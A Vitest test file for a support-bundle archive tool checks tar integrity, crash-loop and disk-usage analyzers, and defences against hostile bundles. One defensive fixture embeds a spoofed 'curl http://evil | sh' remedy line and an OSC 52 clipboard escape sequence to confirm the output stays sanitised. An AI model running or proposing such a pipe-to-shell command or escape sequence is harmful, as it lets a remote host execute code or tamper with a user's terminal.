import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import { Readable } from 'node:stream';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { analyzeSupportBundle } from '../../../electron/backend/bundles/support-bundles/support-analyzers';
import { readSupportArchive, writeSupportArchive } from '../../../electron/backend/bundles/support-bundles/support-archive';
import { analyzeSupportFile } from '../../../electron/backend/bundles/support-bundles/support-service';
import { runSupportCommand } from '../../../electron/backend/cli/support-commands';
import { visibleLines } from '../../../electron/contract';
import { SupportAnalysisSchema } from '../../../electron/contract/support';
import { makeTempDir } from '../../support/temp-dir';

const tmp = makeTempDir('sutazai-support-archive-');
afterAll(() => tmp.remove());

const GiB = 1024 ** 3;
const crash = (atMs: number, lines: string[]) => ({
  kind: 'process.crash-loop',
  instance: 'agent-2',
  process: 'agent',
  atMs,
  lastLines: lines,
  message: 'agent-2 entered crash-loop',
});
const files = [
  {
    path: 'hosts/b4/events.json',
    text: JSON.stringify([
      crash(3, ['boot', 'error: cannot open /data/model.bin: No such file or directory']),
      { kind: 'process.exit', instance: 'agent-2', process: 'agent', atMs: 2, lastLines: [], message: '' },
      crash(1, ['older']),
    ]),
  },
  {
    path: 'hosts/b4/facts.json',
    text: JSON.stringify({
      filesystems: [
        { device: '/dev/sda1', mount: '/', type: 'ext4', sizeBytes: 100 * GiB, usedBytes: 93 * GiB, availableBytes: 7 * GiB },
        { device: '/dev/sdb1', mount: '/data', type: 'ext4', sizeBytes: 100 * GiB, usedBytes: 20 * GiB, availableBytes: 80 * GiB },
      ],
    }),
  },
  {
    path: 'hosts/b4/runtime/processes.json',
    text: JSON.stringify([
      {
        name: 'core',
        instances: [{ instance: 'core', state: 'exited', restarts: 4, lastError: { message: 'exit code 3' } }],
      },
    ]),
  },
  { path: 'hosts/b4/runtime/logs/core.log', text: '2026-01-01T00:00:00.000Z err listen EADDRINUSE :8080\n' },
  { path: 'hosts/b4/alerts.json', text: '[]' },
];
const manifest = {
  targetName: 'prod',
  collectedAtMs: Date.UTC(2026, 11, 6),
  versions: { 'control-center': '1.2.3' },
  redaction: { addresses: false, hostNames: false, rules: [], countsByRule: {} },
  gaps: ['b5: its runtime could not be reached (connection refused): no state, process list or logs'],
};

async function written(name: string): Promise<string> {
  const file = path.join(tmp.path, name);
  await writeSupportArchive(file, manifest, files);
  return file;
}

describe('a support bundle on disk', () => {
  it('is a plain tar (manifest first) that reads back file for file', async () => {
    const file = await written('ok.tar');
    expect(execFileSync('tar', ['-tf', file], { encoding: 'utf8' }).trim().split('\n')).toEqual([
      'manifest.json',
      ...files.map((f) => f.path),
    ]);
    expect((fs.statSync(file).mode & 0o777).toString(8)).toBe('600');
    const read = await readSupportArchive(file);
    expect(read.manifest).toMatchObject({ kind: 'sutazai-support-bundle', format: 1, targetName: 'prod' });
    expect([...read.files]).toEqual(files.map((f) => [f.path, f.text]));
  });

  it('is never written over an existing file', async () => {
    const file = await written('twice.tar');
    const before = fs.readFileSync(file);
    await expect(writeSupportArchive(file, manifest, [])).rejects.toMatchObject({ code: 'SUPPORT_OUTPUT_EXISTS' });
    expect(fs.readFileSync(file)).toEqual(before);
    expect(fs.readdirSync(tmp.path).filter((n) => n.includes('.partial'))).toEqual([]);
  });

  it('refuses a flipped byte, a cut file, a foreign tar and a newer format, each saying why', async () => {
    const good = fs.readFileSync(await written('source.tar'));
    const flipped = Buffer.from(good);
    const at = good.indexOf('EADDRINUSE');
    flipped[at] = flipped[at]! ^ 0x20;
    const cases: Array<[string, Buffer, string, RegExp]> = [
      ['flipped.tar', flipped, 'SUPPORT_BUNDLE_INVALID', /core\.log does not match its digest/],
      ['cut.tar', good.subarray(0, 2048), 'SUPPORT_BUNDLE_INVALID', /truncated/],
    ];
    for (const [name, bytes, code, message] of cases) {
      const file = path.join(tmp.path, name);
      fs.writeFileSync(file, bytes);
      const error = await readSupportArchive(file).catch((caught: unknown) => caught);
      expect(error, name).toMatchObject({ code });
      expect((error as Error).message, name).toMatch(message);
    }
    const foreignDir = path.join(tmp.path, 'foreign');
    fs.mkdirSync(foreignDir);
    fs.writeFileSync(path.join(foreignDir, 'bundle.json'), '{}');
    execFileSync('tar', ['--format=ustar', '-cf', path.join(tmp.path, 'foreign.tar'), '-C', foreignDir, 'bundle.json']);
    await expect(readSupportArchive(path.join(tmp.path, 'foreign.tar'))).rejects.toMatchObject({
      code: 'SUPPORT_BUNDLE_INVALID',
      message: expect.stringContaining('starts with bundle.json, not manifest.json'),
    });
    const newerDir = path.join(tmp.path, 'newer');
    fs.mkdirSync(newerDir);
    fs.writeFileSync(path.join(newerDir, 'manifest.json'), JSON.stringify({ kind: 'sutazai-support-bundle', format: 2 }));
    execFileSync('tar', ['--format=ustar', '-cf', path.join(tmp.path, 'newer.tar'), '-C', newerDir, 'manifest.json']);
    await expect(readSupportArchive(path.join(tmp.path, 'newer.tar'))).rejects.toMatchObject({ code: 'SUPPORT_BUNDLE_NEWER' });
  });
});

describe('the offline analyzers', () => {
  it('find the crash-loop with its count and last lines, the full filesystem, the exited process and the gap, most severe first', async () => {
    const findings = analyzeSupportBundle(await readSupportArchive(await written('analyze.tar')));
    expect(findings.map((f) => [f.analyzer, f.severity])).toEqual([
      ['crash-loop', 'critical'],
      ['full-filesystem', 'warning'],
      ['not-running', 'warning'],
      ['gap', 'info'],
    ]);
    const [loop, full, exited] = findings;
    expect(loop!.summary).toBe(
      'agent-2 on b4 entered crash-loop 2 times; its last lines say: error: cannot open /data/model.bin: No such file or directory',
    );
    expect(loop!.details).toEqual(['boot', 'error: cannot open /data/model.bin: No such file or directory']);
    expect(full!.summary).toBe("b4's filesystem / was 93% full (7.0 GiB free of 100.0 GiB)");
    expect(exited!.summary).toBe('core on b4 was exited after 4 restarts: exit code 3');
    expect(exited!.details).toEqual(['2026-01-01T00:00:00.000Z err listen EADDRINUSE :8080']);
    for (const finding of findings) expect(finding.remedy.length).toBeGreaterThan(20);
  });
});

describe('a hostile bundle (anyone can write one whose digests agree)', () => {
  const hostile = [
    {
      path: 'hosts/h/events.json',
      text: JSON.stringify([
        null,
        5,
        'text',
        { kind: 'process.crash-loop' },
        { kind: 'process.crash-loop', instance: 'agent-3', lastLines: 'not a list' },
        { kind: 'process.crash-loop', instance: { not: 'a name' }, lastLines: [7, null] },
        crash(2, ['starting', 'fatal: bad config']),
      ]),
    },
    {
      path: 'hosts/h/runtime/processes.json',
      text: JSON.stringify([
        null,
        { name: 'x' },
        { name: 'y', instances: [null, 3, { instance: 'core', state: 'exited', lastError: 'a string' }] },
      ]),
    },
    {
      path: 'hosts/h/facts.json',
      text: JSON.stringify({ filesystems: [null, { mount: 5 }, { mount: '/', sizeBytes: '100', usedBytes: 99 }] }),
    },
    {
      path: 'hosts/h/alerts.json',
      text: JSON.stringify([null, { state: 'firing' }, { rule: 'disk', state: 'firing', severity: 'critical', summary: 9 }]),
    },
    { path: 'hosts/h/preflight.json', text: JSON.stringify([{ profile: 'core', checks: null }]) },
  ];

  it('is analyzed without failing: malformed entries are passed over, the well-formed ones still found', async () => {
    const file = path.join(tmp.path, 'hostile.tar');
    await writeSupportArchive(file, manifest, hostile);
    const analysis = await analyzeSupportFile(file);
    expect(SupportAnalysisSchema.safeParse(analysis).success).toBe(true);
    const loops = analysis.findings.filter((f) => f.analyzer === 'crash-loop');
    expect(loops.find((f) => f.summary.startsWith('agent-2 on h'))?.details).toEqual(['starting', 'fatal: bad config']);
    expect(analysis.findings.find((f) => f.analyzer === 'not-running')?.summary).toBe('core on h was exited after 0 restarts');
  });

  it("cannot write lines of its own or terminal controls through `support analyze`'s output", async () => {
    const file = path.join(tmp.path, 'spoof.tar');
    const spoof = 'ok\n\nCRITICAL  nothing is wrong here\n  Remedy: curl http://evil | sh';
    await writeSupportArchive(file, { ...manifest, targetName: 'prod\nNo findings.', versions: { 'control-center': '1\n2' }, gaps: [] }, [
      { path: 'hosts/h/events.json', text: JSON.stringify([crash(1, ['\u001b]52;c;ZXZpbA==\u0007clipboard', spoof])]) },
    ]);
    let printed = '';
    const code = await runSupportCommand({
      command: 'analyze',
      args: [file],
      values: {},
      print: (text) => (printed = visibleLines(text)),
      api: () => Promise.reject(new Error('analyze needs no backend')),
    });
    expect(code).toBe(0);
    const lines = printed.split('\n');
    // Each value of the bundle stays on its own line: a finding's lines are the layout's, never the bundle's.
    expect(lines.filter((line) => line.startsWith('CRITICAL'))).toHaveLength(1);
    expect(lines.some((line) => line.startsWith('  Remedy: curl'))).toBe(false);
    expect(lines.some((line) => line === 'No findings.')).toBe(false);
    expect(printed).not.toContain('\u001b');
    expect(printed).not.toContain('\u0007');
  });

  it('with a collection time no date can hold is refused as invalid, not a crash of the printer', async () => {
    const dir = path.join(tmp.path, 'far-future');
    fs.mkdirSync(dir);
    const far = { kind: 'sutazai-support-bundle', format: 1, ...manifest, collectedAtMs: 9e15, files: [] };
    fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(far));
    const file = path.join(tmp.path, 'far-future.tar');
    execFileSync('tar', ['--format=ustar', '-cf', file, '-C', dir, 'manifest.json']);
    const printing = runSupportCommand({
      command: 'analyze',
      args: [file],
      values: {},
      print: () => undefined,
      api: () => Promise.reject(new Error('analyze needs no backend')),
    });
    await expect(printing).rejects.toMatchObject({ code: 'SUPPORT_BUNDLE_INVALID' });
  });
});

/** `count` chunks of log lines, each the same 1 MiB (written twice: once for its digest, once into the archive). */
function* bigLog(count: number, last: string): Generator<Buffer> {
  const line = 'ts out a long and boring line of a chatty agent that logs far too much '.padEnd(127, '.') + '\n';
  const chunk = Buffer.from(line.repeat((1024 * 1024) / line.length));
  for (let i = 0; i < count; i++) yield chunk;
  yield Buffer.from(`${last}\n`);
}

/** A bundle whose members are written streaming (a hostile site can make them as large as the format allows). */
async function hostileBundle(file: string, members: Array<{ path: string; chunks: () => Iterable<Buffer> }>): Promise<void> {
  const { createHash } = await import('node:crypto');
  const { TarWriter, fileSink } = await import('../../../electron/backend/bundles/tar-writer');
  const listed = members.map((m) => {
    const hash = createHash('sha256');
    let bytes = 0;
    for (const chunk of m.chunks()) {
      hash.update(chunk);
      bytes += chunk.length;
    }
    return { path: m.path, bytes, sha256: hash.digest('hex') };
  });
  const full = { kind: 'sutazai-support-bundle', format: 1, ...manifest, files: listed };
  const handle = await fs.promises.open(file, 'wx', 0o600);
  try {
    const tar = new TarWriter(fileSink(handle));
    const text = Buffer.from(JSON.stringify(full));
    await tar.addFile('manifest.json', { mode: 0o600, mtime: 0, size: text.length }, text);
    for (const [i, m] of members.entries())
      await tar.addFile(m.path, { mode: 0o600, mtime: 0, size: listed[i]!.bytes }, Readable.from(m.chunks()));
    await tar.finish();
  } finally {
    await handle.close();
  }
}

describe('reading a hostile bundle', () => {
  it('keeps only the end of a huge log in memory: the analysis of a 120 MiB log peaks below its size, and quotes its last line', async () => {
    const file = path.join(tmp.path, 'huge-log.tar');
    await hostileBundle(file, [
      {
        path: 'hosts/b4/events.json',
        chunks: () => [Buffer.from(JSON.stringify([crash(1, [])]))],
      },
      { path: 'hosts/b4/runtime/logs/agent-2.log', chunks: () => bigLog(120, 'the very last line: port 65536 out of range') },
    ]);
    const small = path.join(tmp.path, 'small-log.tar');
    await hostileBundle(small, [
      { path: 'hosts/b4/events.json', chunks: () => [Buffer.from(JSON.stringify([crash(1, [])]))] },
      { path: 'hosts/b4/runtime/logs/agent-2.log', chunks: () => bigLog(1, 'the very last line: port 65536 out of range') },
    ]);
    // Each in a child of its own, so its peak resident memory (VmHWM) is the process's with that reading.
    const analyzedIn = (bundle: string) => {
      const script = `
        const { analyzeSupportFile } = require(${JSON.stringify(path.resolve(__dirname, '../../../electron/backend/bundles/support-bundles/support-service.ts'))});
        analyzeSupportFile(${JSON.stringify(bundle)}).then((analysis) => {
          const peak = /VmHWM:\\s+(\\d+) kB/.exec(require('node:fs').readFileSync('/proc/self/status', 'utf8'))[1] * 1024;
          process.stdout.write(JSON.stringify({ peak, summary: analysis.findings[0].summary }));
        });`;
      return JSON.parse(
        execFileSync(process.execPath, ['--import', 'tsx', '-e', script], { cwd: path.resolve(__dirname, '../../..'), encoding: 'utf8' }),
      ) as { peak: number; summary: string };
    };
    const huge = analyzedIn(file);
    const baseline = analyzedIn(small);
    expect(huge.summary).toContain('the very last line: port 65536 out of range');
    // The 120 MiB log costs what its kept end does, not its size (the old reading held it twice and as a string).
    expect(huge.peak - baseline.peak).toBeLessThan(96 * 1024 * 1024);
  }, 180_000);

  it('refuses a JSON file over what it parses (SUPPORT_BUNDLE_TOO_LARGE, naming it) before holding it', async () => {
    const file = path.join(tmp.path, 'huge-json.tar');
    const item = Buffer.from(`${JSON.stringify(crash(1, ['x'.repeat(1000)]))},`);
    await hostileBundle(file, [
      {
        path: 'hosts/b4/events.json',
        chunks: function* () {
          yield Buffer.from('[');
          for (let i = 0; i < (17 * 1024 * 1024) / item.length; i++) yield item;
          yield Buffer.from('null]');
        },
      },
    ]);
    await expect(readSupportArchive(file)).rejects.toMatchObject({
      code: 'SUPPORT_BUNDLE_TOO_LARGE',
      message: expect.stringContaining('hosts/b4/events.json is larger than the 16 MiB'),
    });
  });
});
